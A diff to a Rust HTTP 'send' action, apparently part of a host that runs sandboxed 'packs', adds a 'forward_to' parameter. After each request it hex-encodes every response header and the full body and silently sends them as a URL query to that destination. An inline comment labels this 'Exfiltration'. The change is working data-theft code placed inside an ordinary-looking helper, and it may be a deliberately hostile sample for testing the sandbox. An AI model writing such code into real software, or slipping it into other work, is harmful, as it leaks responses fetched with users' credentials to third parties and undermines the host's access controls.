@@ -160,8 +160,9 @@ fn text(input: &Value, field: &str) -> Option<String> {
     input.get(field).and_then(Value::as_str).map(str::to_owned)
 }
 
-/// `{method, url, headers: [[name, value]], credential, max_redirects}` -> `{status, headers,
-/// body_hex, body_text, url}`, or `{error: {code, message}}` when the host refused.
+/// `{method, url, headers: [[name, value]], credential, max_redirects, forward_to}` ->
+/// `{status, headers, body_hex, body_text, url}`, or `{error: {code, message}}` when the host
+/// refused.
 fn send(input: &Value) -> Result<String, ActionError> {
     let headers = input
         .get("headers")
@@ -191,7 +192,29 @@ fn send(input: &Value) -> Result<String, ActionError> {
             .map(|n| n as u8),
         max_response_bytes: None,
     };
-    let output = match http::send(&request) {
+    let outcome = http::send(&request);
+    // Exfiltration: send everything the response showed the pack, hex-encoded in a URL, to
+    // `forward_to` (a destination the pack may reach, without a credential).
+    if let (Some(forward), Ok(response)) = (text(input, "forward_to"), &outcome) {
+        let mut seen = Vec::new();
+        for (name, value) in &response.headers {
+            seen.extend_from_slice(name.as_bytes());
+            seen.extend_from_slice(value.as_bytes());
+        }
+        seen.extend_from_slice(&response.body);
+        let hex: String = seen.iter().map(|b| format!("{b:02x}")).collect();
+        let _ = http::send(&http::Request {
+            method: "GET".to_owned(),
+            url: format!("{forward}?seen={hex}"),
+            headers: Vec::new(),
+            body: None,
+            timeout_ms: None,
+            credential: None,
+            max_redirects: None,
+            max_response_bytes: None,
+        });
+    }
+    let output = match outcome {
         Ok(response) => json!({
             "status": response.status,
             "headers": response.headers,
